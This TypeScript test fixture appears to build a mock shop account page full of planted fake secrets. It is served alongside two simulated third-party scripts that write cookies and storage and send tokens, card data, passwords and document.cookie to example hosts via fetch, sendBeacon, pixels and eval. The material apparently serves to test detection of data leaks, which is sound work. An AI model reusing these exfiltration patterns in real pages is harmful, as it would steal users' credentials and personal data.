import type { Routes } from '../../internet/routes.ts';
import { askWithIdentifiers, type Planted, plantingCode } from './planted.ts';

/** Twenty kinds of secret that a logged-in page may show, each unlike any other text in the test. */
export const secrets = {
  sessionToken: 'sess8f3kq02mzx91bvltr7w4ypn6dcau5',
  bearer: 'bq7RkZt1YxW9vN3mLp0cD5sFh2GjU8aE4iO6',
  jwt: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI5MDgxNzI2In0.c2lnbmF0dXJlLW9mLXRoZS10ZXN0',
  email: 'ada.lovelace.4711@customer-mail.example',
  phone: '+44-7700-900-4521',
  card: '4556737586899855',
  iban: 'GB33BUKB20201555555555',
  password: 'Tr0ub4dor&3-horse',
  resetCode: '9c1d44f0e2b74a7f9d6c0b3a5e8f1122',
  uuid: '7d9f2c1e-5b6a-4d3c-8e9f-0a1b2c3d4e5f',
  apiKey: 'sk_live_51H8fJ2eZvKYlo2C0aBcDeFgH',
  awsKey: 'AKIAIOSFODNN7EXAMPLE',
  oauthCode: '4/0AX4XfWh7pQrStUvWxYz0123456789abc',
  csrf: 'csrfQ2w9Er7Ty5Ui3Op1As8Df6Gh4Jk2',
  cookieValue: 'ck5Vb8Nm2Qw4Er6Ty8Ui0Op2As4Df6Gh',
  customerId: '88412377209134',
  chatText: 'My surgery is on the fourteenth of March',
  fullName: 'Wilhelmina Featherstonehaugh',
  address: '221B Upper Candlemaker Row',
  ipAddress: '203.0.113.87',
} as const;

const s = secrets;
const q = encodeURIComponent;

export const loginPath = `/account/${s.uuid}/orders?session=${s.sessionToken}&email=${q(s.email)}#${s.resetCode}`;

export const accountPage = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${s.fullName}</title>
<meta name="csrf-token" content="${s.csrf}"></head>
<body class="user-${s.customerId} ${s.email}">
<main id="account-${s.email}" data-token="${s.bearer}"><h1>${s.fullName}</h1><p>${s.address}, ${s.phone}, ${s.iban}, ${s.card}</p>
<form><input type="password" value="${s.password}"><input name="key" value="${s.apiKey}"></form></main>
<script src="https://cdn.parley.example/parley.js?visitor=${s.customerId}&jwt=${s.jwt}"></script>
<script src="https://cdn.overtalk.example/tag.js?key=${s.apiKey}"></script>
</body></html>`;

/** Parley draws its button with private things about, and sends them to its own server. */
export const parleyScript = `
document.cookie = 'sid=${s.cookieValue}; path=/';
localStorage.setItem('parley:${s.email}', '${s.chatText}');
document.cookie = 'parley_session=${s.cookieValue}; path=/';
localStorage.setItem('parley.${s.email}', '${s.chatText}');
window.Parley = { open() {}, user: { name: '${s.fullName}', ip: '${s.ipAddress}' } };
const launcher = document.createElement('button');
launcher.id = 'parley-launcher';
launcher.className = 'parley ${s.sessionToken} ${s.email}';
launcher.title = '${s.chatText}';
launcher.textContent = '${s.chatText}';
launcher.style.cssText = 'position:fixed;right:24px;bottom:24px;width:64px;height:64px';
document.body.appendChild(launcher);
fetch('https://api.parley.example/v1/visitors/${s.customerId}/messages?auth=${s.bearer}&text=${q(s.chatText)}', {
  method: 'POST', headers: { authorization: 'Bearer ${s.bearer}' }, mode: 'no-cors', body: JSON.stringify(${JSON.stringify(s)}) });
const x = new XMLHttpRequest();
x.open('GET', 'https://api.parley.example/reset/${s.resetCode}/${q(s.email)}/${s.jwt}?code=${q(s.oauthCode)}&iban=${s.iban}');
x.send();
navigator.sendBeacon('https://api.parley.example/b?phone=${q(s.phone)}&card=${s.card}&ip=${s.ipAddress}', '${s.password}');
new Image().src = 'https://api.parley.example/pixel/${s.awsKey}.gif?name=${q(s.fullName)}&at=${q(s.address)}';
history.pushState({}, '', '/account/${s.email}/reset/${s.resetCode}?csrf=${s.csrf}#access_token=${s.bearer}');
`;

/** Overtalk acts from functions and evaluated code whose names hold secrets. */
export const overtalkScript = `
const act = {
  ['remove ${s.email} ${s.apiKey}']() {
    const launcher = document.getElementById('parley-launcher');
    if (launcher) launcher.remove();
  },
  ['send ${s.jwt}']() {
    fetch('https://api.parley.example/v1/markers/${s.uuid}?m=${s.sessionToken}&c=' + encodeURIComponent(document.cookie), { mode: 'no-cors' });
  },
  write() {
    document.cookie = 'parley_${s.customerId}=${s.csrf}; path=/';
    localStorage.setItem('parley.mark', '${s.apiKey}');
    const headers = { 'x-${s.customerId}': '${s.bearer}' };
    fetch('https://api.parley.example/v1/marks', { method: 'POST', headers, body: JSON.stringify({ '${s.email}': '${s.jwt}', deep: [{ text: '${s.chatText}' }] }) }).catch(() => {});
  },
  copy() {
    const value = '${s.cookieValue}';
    navigator.sendBeacon('https://collect.overtalk.example/hits?raw=' + value, JSON.stringify({ b: btoa('v=' + value) }));
  },
  replace() { window.Parley.open = () => '${s.chatText}'; },
};
setTimeout(() => Object.values(act).forEach((one) => one()), 900);
setTimeout(() => (0, eval)("document.body.setAttribute('class','x-${s.email}');fetch('https://api.parley.example/e/${s.customerId}',{mode:'no-cors'})\\n//# sourceURL=https://cdn.overtalk.example/${s.email}/${s.jwt}.js?k=${s.apiKey}"), 1200);
`;

/** The page, and the servers that it speaks to, with these secrets as well. */
export function plantedRoutes(planted: readonly Planted[]): Routes {
  const site = `<script>${plantingCode(planted, 'site', 400)}</script></body>`;
  const landed = { status: 204, headers: { 'access-control-allow-origin': '*' }, body: '' };
  return {
    'shop.example': {
      '/*': { headers: { 'content-type': 'text/html' }, body: accountPage.replace('</body>', () => site) },
    },
    'cdn.parley.example': {
      '/parley.js': { body: `${parleyScript}${askWithIdentifiers}${plantingCode(planted, 'chat', 200)}` },
    },
    'cdn.overtalk.example': {
      '/tag.js': { body: `${overtalkScript}${plantingCode(planted, 'other', 500)}` },
    },
    'api.parley.example': {
      '/*': landed,
      '/redirect*': ({ path }) => ({
        ...landed,
        status: 302,
        headers: { location: new URL(path, 'https://api.parley.example').searchParams.get('to') ?? '/' },
      }),
    },
  };
}
